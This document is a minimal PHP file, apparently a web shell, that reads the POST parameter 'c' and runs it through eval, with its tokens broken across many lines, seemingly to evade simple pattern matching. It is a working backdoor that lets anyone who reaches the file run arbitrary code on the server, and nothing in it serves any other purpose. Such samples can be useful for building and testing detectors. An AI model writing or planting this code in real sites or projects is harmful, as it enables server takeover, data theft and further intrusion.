<?php


	$c
	=
	$_POST
	[
'c'
]
;


	EVAL
(
$c
)
;
